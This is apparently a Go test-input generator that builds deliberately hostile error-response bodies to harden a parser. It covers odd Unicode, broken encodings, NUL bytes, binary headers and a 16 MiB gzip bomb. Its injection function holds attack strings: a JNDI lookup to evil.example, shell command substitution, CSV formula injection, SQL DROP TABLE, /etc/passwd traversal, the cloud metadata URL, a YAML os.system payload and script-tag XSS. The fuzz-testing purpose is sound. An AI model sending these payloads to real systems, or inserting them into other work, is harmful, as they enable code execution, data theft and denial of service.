package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"

	"golang.org/x/text/encoding/simplifiedchinese"
)

func (g *generator) unicode() {
	for _, p := range []payload{
		{"arabic", "الملف غير موجود"}, {"hebrew", "הקובץ לא נמצא"}, {"emoji", "👩‍🚀 1️⃣ ❤️ 🏳️‍🌈"}, {"flags", "🇨🇳🏴\U000e0067\U000e007f"}, {"hangul-jamo", "각"},
		{"devanagari", "क्षि"}, {"thai", "ไม่พบ"}, {"combining-only", "\u0301\u0302"}, {"ligature", "ﷺﷺ"}, {"math", "𝐈𝐧𝐯𝐚𝐥𝐢𝐝"}, {"fullwidth", "ＩｎｖａｌｉｄＶｉｐ"},
		{"ideographic-space", "\u3000\u2003\u00a0"}, {"lone-surrogates", ""}, {"turkish", "İı"}, {"kelvin", "\u212a\u017f"},
	} {
		code := g.code()
		text := p.text
		if p.name == "lone-surrogates" {
			text = `\ud800 \udfff \ud83d \ude00\ud83d`
		}
		g.addScanned(p.name, jsonBody(code, text), code)
	}
	code := g.code()
	g.add("kelvin-long-s-keys", fmt.Sprintf(`{"code":"%s","me\u017f\u017fage":"folded","reque\u017ftId":"x"}`, code), code)
	g.add("zero-width-in-code", "{\"Code\":\"Invalid\u200bVip.NotFound\"}")
	g.add("homoglyph-code", "{\"Code\":\"\u0406nvalidVip.NotFound\"}")
	g.add("fullwidth-code", "{\"Code\":\"InvalidVip．NotFound\"}")
	g.add("reversed-code", "{\"Code\":\"\u202edniFtoN.piVdilavnI\u202c\"}")
	g.add("combining-code", "{\"Code\":\"I\u0301nvalidVip.NotFound\"}")
}

func (g *generator) encodings() {
	message := "the file system does not exist, 文件系统不存在"
	for _, e := range []struct {
		name   string
		encode func(string) string
	}{
		{"utf-8-bom", func(s string) string { return "\ufeff" + s }},
		{"utf-8-bom-crlf", func(s string) string { return "\ufeff" + strings.ReplaceAll(s, "\n", "\r\n") }},
		{"utf-16le-bom", func(s string) string { return "\xff\xfe" + inUTF16(s, binary.LittleEndian) }},
		{"utf-16be-bom", func(s string) string { return "\xfe\xff" + inUTF16(s, binary.BigEndian) }},
		{"utf-16le", func(s string) string { return inUTF16(s, binary.LittleEndian) }},
		{"utf-16be", func(s string) string { return inUTF16(s, binary.BigEndian) }},
		{"gb18030", inGB18030},
	} {
		for _, body := range []func(code, message string) string{jsonBody, xmlBody, textBody} {
			code := g.code()
			text := body(code, message)
			g.add(e.name+"-"+text[:3], e.encode(text), code)
		}
	}
	for _, front := range []string{`<?xml version="1.0" encoding="GBK"?>`, `<?xml version="1.1"?>`, `<?xml version="1.0" encoding="UTF-16"?>`, `<?xml version="1.0" encoding="nosuch"?>`, `<? xml version = "1.0" ? >`} {
		code := g.code()
		_, body, _ := strings.Cut(xmlBody(code, message), "\n")
		g.addScanned("label-"+front[5:], front+"\n"+body, code)
	}
	code := g.code()
	g.add("utf-32le", inUTF32(textBody(code, message), binary.LittleEndian))
	g.add("utf-32be", inUTF32(textBody(code, message), binary.BigEndian))
	g.add("utf-16-odd", "\xff\xfe"+inUTF16(textBody(code, message), binary.LittleEndian)+"x", code)
	g.add("utf-16-lone-surrogates", "\xff\xfe\x00\xd8\x00\xd8\x00\xdc"+inUTF16(textBody(code, message), binary.LittleEndian), code)
	g.add("bom-in-the-middle", jsonBody(code, "a\ufeffb")+"\n\ufeff"+jsonBody(code, "c"), code)
	g.add("bom-alone", "\ufeff")
	g.add("utf-16-bom-alone", "\xff\xfe")
}

func inUTF16(s string, order binary.AppendByteOrder) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(s)) {
		b = order.AppendUint16(b, unit)
	}
	return string(b)
}

func inUTF32(s string, order binary.AppendByteOrder) string {
	b := order.AppendUint32(nil, 0xfeff)
	for _, r := range s {
		b = order.AppendUint32(b, uint32(r))
	}
	return string(b)
}

func inGB18030(s string) string {
	encoded, err := simplifiedchinese.GB18030.NewEncoder().String(s)
	if err != nil {
		panic(err)
	}
	return encoded
}

func (g *generator) nuls() {
	g.add("in-a-code", `{"Code":"InvalidVip`+"\x00"+`.NotFound"}`)
	g.add("behind-a-code", `{"Code":"InvalidVip.NotFound\u0000"}`)
	code := g.code()
	g.addScanned("before-a-body", strings.Repeat("\x00", 1000)+jsonBody(code, "x"), code)
	code = g.code()
	g.addScanned("between-lines", "a\x00b\n\x00\n"+textBody(code, "x\x00y"), code)
	code = g.code()
	g.addScanned("and-stray-bytes", "\x00\xff\x00\xfe"+textBody(code, "x"), code)
	code = g.code()
	g.addScanned("and-stray-bytes-odd", "\x00\xff\x00\xfe."+textBody(code, "x"), code)
	code = g.code()
	g.add("stray-byte-before-a-code", "failed \xff"+code+" \x80\x81", code)
	g.add("every-second-byte-odd", strings.Join(strings.Split(jsonBody(g.code(), "x"), ""), "\x00"))
	g.add("only", strings.Repeat("\x00", 64<<10))
	code = g.code()
	g.addScanned("at-the-end", jsonBody(code, "x")+"\x00", code)
	code = g.code()
	g.addScanned("in-a-message", jsonBody(code, `a\u0000b`+"\x00c"), code)
}

func (g *generator) binary() {
	code := g.code()
	var zipped bytes.Buffer
	w := gzip.NewWriter(&zipped)
	w.Write([]byte(jsonBody(code, "x"))) //nolint:errcheck // into memory
	w.Close()
	g.add("gzip", zipped.String())
	g.add("gzip-cut", zipped.String()[:zipped.Len()/2])
	g.add("gzip-bad-sum", zipped.String()[:zipped.Len()-8]+"aaaaaaaa")
	g.add("gzip-head", "\x1f\x8b")
	g.add("gzip-bomb", bomb())
	for _, magic := range []payload{
		{"zip", "PK\x03\x04\x14\x00"}, {"png", "\x89PNG\r\n\x1a\n"}, {"elf", "\x7fELF\x02\x01\x01"}, {"pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"}, {"zstd", "\x28\xb5\x2f\xfd"}, {"sqlite", "SQLite format 3\x00"}, {"java-class", "\xca\xfe\xba\xbe"},
	} {
		g.add(magic.name, magic.text+g.bytes(4<<10))
	}
}

// bomb is gzip of 16 MiB of one letter.
func bomb() string {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	letters := bytes.Repeat([]byte("a"), 1<<20)
	for range 16 {
		w.Write(letters) //nolint:errcheck // into memory
	}
	w.Close()
	return b.String()
}

func (g *generator) bytes(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.rng.Uint32())
	}
	return string(b)
}

// random is soup of bytes, of signs, and of the tokens that bodies are made of.
func (g *generator) random() {
	tokens := map[string][]string{
		"ascii": strings.Split("abcXYZ019 .,:;_-/\\\"'`(){}[]<>=&%$#@!?*+|~^\n\t", ""),
		"json":  {"{", "}", "[", "]", ",", ":", `"`, `\"`, `\u00`, "Code", "Message", "errors", `"Code":"InvalidVip.NotFound"`, "null", "1e9", "\n", " ", "'", "u'", "=>", "&x{"},
		"xml":   {"<", ">", "</", "/>", "<Error>", "</Error>", "<Code>", "</Code>", "<![CDATA[", "]]>", "<!--", "-->", "<?", "&#27;", "&amp;", "InvalidVip.NotFound", " a=\"", "\n"},
		"text":  {"ErrorCode: ", "Message: ", "RequestId: ", "HTTP/1.1 404", "Error: ", "code: 404, ", "Code (1400)", "QingCloud Error: ", "\n", " ", "request id: ", "rpc error: code = ", "InvalidVip.NotFound", "│ ", "> ", "\x1b[", "http://a.b/?x="},
		"pages": {"| ", "|", "---", "\n", "Code", "错误码", "描述", "<table>", "<tr>", "<td>", "</td>", "+---+", "====", "# ", "A.B", "- ", "```", "\t", ",", "<td rowspan=3 colspan=9999>"},
	}
	for _, kind := range []string{"ascii", "json", "xml", "text", "pages"} {
		for i := range 8 {
			var b strings.Builder
			for range 1 << (i + 4) {
				b.WriteString(tokens[kind][g.rng.IntN(len(tokens[kind]))])
			}
			g.add(fmt.Sprintf("%s-%d", kind, i), b.String())
		}
	}
	for i := range 8 {
		g.add(fmt.Sprintf("bytes-%d", i), g.bytes(1<<(2*i)))
	}
}

// injection is text that some program on the way might run, expand or format.
func (g *generator) injection() {
	for _, p := range []payload{
		{"printf", "%s %n %d %x %!s(MISSING) %[1]*.[2]*f %%"}, {"template", "{{.Env}} {{range .}}{{end}} ${HOME} #{x} <%= x %>"}, {"jndi", "${jndi:ldap://evil.example/a}"}, {"shell", "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned"},
		{"csv-equals", "=cmd|'/c calc'!A1"}, {"csv-at", "@SUM(1+1)*cmd"}, {"csv-plus", "+1+1"}, {"csv-minus", "-2+3"}, {"csv-tab", "\\t=1+1"}, {"regex", "(a+)+$ [[:alpha:]] (?P<x>.)* \\\\p{Greek} {1000}{1000}"}, {"sql", "'; DROP TABLE errors; --"},
		{"path", "../../../../etc/passwd"}, {"url", "file:///etc/passwd http://169.254.169.254/latest/meta-data/"}, {"at-file", "@/etc/passwd"}, {"markdown", "[x](javascript:alert(1)) <script>alert(1)</script> ![x](http://evil.example/x.png)"}, {"html", "</td></table><script>alert(1)</script>"},
		{"yaml", "!!python/object/apply:os.system ['id'] &a *a"}, {"man", ".sp\\n.so /etc/passwd"}, {"windows", "C:\\\\con\\\\nul %PATH% ^& del"},
	} {
		code := g.code()
		g.addScanned(p.name, jsonBody(code, p.text), code)
		g.add(p.name+"-code", fmt.Sprintf(`{"Code":%q,"Message":"x"}`, p.text))
	}
}
